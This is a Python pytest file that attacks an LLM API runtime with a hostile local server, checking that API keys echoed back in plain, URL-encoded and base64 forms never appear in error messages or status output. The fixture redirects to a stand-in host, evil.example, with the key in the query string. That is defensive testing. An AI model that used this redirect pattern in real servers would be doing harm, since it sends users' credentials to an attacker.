"""The runtime attacked as a hostile server and a hostile user would, each attack against a real local server
(llmock, moto, redis-server, or a loopback server of this file for shapes they cannot make).

Every failure must be a classified outcome with a hint, never a traceback or a hang past the documented deadlines;
no run of six characters of any secret may appear in any result, message, repr or log. Time is never measured
here: bounds come from what the servers recorded (bytes sent before the client hung up) or an injected clock.
"""

from __future__ import annotations

import base64
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest

from pbcfg.runtime import AllAttemptsFailed, load_runtime
from servers import CREDENTIAL_VARIABLES, said, write_config

KEY = "sk-ant-hostile-0123456789abcdef"
GEMINI_KEY = "AIza-hostile-key-0123456789ABCDEF"
AWS_ID = "AKIAHOSTILE0123456789"
AWS_SECRET = "wJalrXUtnFEMI-hostile-secret-0123456789"
MODEL = "claude-haiku-4-5-20251001"
HI = [{"role": "user", "content": "hi"}]
RUN = 6  # no run this long of a secret may be shown


@pytest.fixture(autouse=True)
def no_credential_variables(monkeypatch):
    for name in CREDENTIAL_VARIABLES:
        monkeypatch.delenv(name, raising=False)


def leaked(text: str, *secrets: str) -> list[str]:
    """Every run of :data:`RUN` characters of a secret that ``text`` shows."""
    return sorted(
        {secret[i : i + RUN] for secret in secrets for i in range(len(secret) - RUN + 1) if secret[i : i + RUN] in text}
    )


class Loopback:
    """An HTTP server on 127.0.0.1 whose every request runs ``script(handler)``; :attr:`seen` records each request
    as (method, raw path, headers)."""

    def __init__(self, script) -> None:
        self.script = script
        self.seen: list[tuple[str, str, dict]] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args) -> None:
                pass

            def _any(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                self.rfile.read(length)
                owner.seen.append((self.command, self.path, dict(self.headers)))
                try:
                    owner.script(self)
                except OSError:
                    pass  # the client hung up

            do_GET = do_POST = _any

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True

    def __enter__(self):
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc_info) -> None:
        self.server.shutdown()
        self.server.server_close()

    @property
    def root(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"


def answer(handler, status: int, body: bytes, headers: dict | None = None) -> None:
    handler.send_response(status)
    for name, value in {"Content-Type": "application/json", **(headers or {})}.items():
        handler.send_header(name, value)
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


def anthropic_runtime(tmp_path, root: str, **options):
    write_config(
        tmp_path,
        {"anthropic-direct": ({"enabled": True, "priority": 1}, {"apiKey": KEY, "baseUrl": root + "/v1/messages"})},
        {MODEL: ["anthropic-direct"]},
        retries=0,
    )
    return load_runtime(tmp_path, env={}, sleep=lambda seconds: None, **options)


# -- a server that echoes the key -----------------------------------------------------------------------------


def echoes(handler) -> None:
    """Every form of the key a server could send back: as is, URL-encoded, base64, in a header and a Location."""
    key = handler.headers.get("x-api-key") or ""
    forms = [key, quote(key, safe=""), base64.b64encode(key.encode()).decode(), base64.b64encode(b"x:" + key.encode())]
    text = " ".join(str(form) for form in forms)
    if handler.command == "GET":
        return answer(handler, 302, b"", {"Location": f"http://evil.example/?k={key}&b={forms[2]}"})
    answer(
        handler,
        401,
        json.dumps({"error": {"type": "authentication_error", "message": f"bad key {text}"}}).encode(),
        {"x-echo": key},
    )


def test_a_server_echoing_the_key_in_every_form_shows_none_of_it(tmp_path, run):
    with Loopback(echoes) as server:
        runtime = anthropic_runtime(tmp_path, server.root)
        with pytest.raises(AllAttemptsFailed) as failed:
            runtime.complete(HI, tier="simple")
        [attempt] = failed.value.attempts
        assert (attempt.outcome, attempt.status) == ("auth", 401)
        assert attempt.hint.startswith("check the key")
        shown = said(failed.value, *failed.value.attempts)
        assert leaked(shown, KEY, base64.b64encode(KEY.encode()).decode()) == []
        status = run("status", "--config-dir", tmp_path, "--format", "json")
        assert leaked(status.out + status.err, KEY, base64.b64encode(KEY.encode()).decode()) == []
        runtime.close()
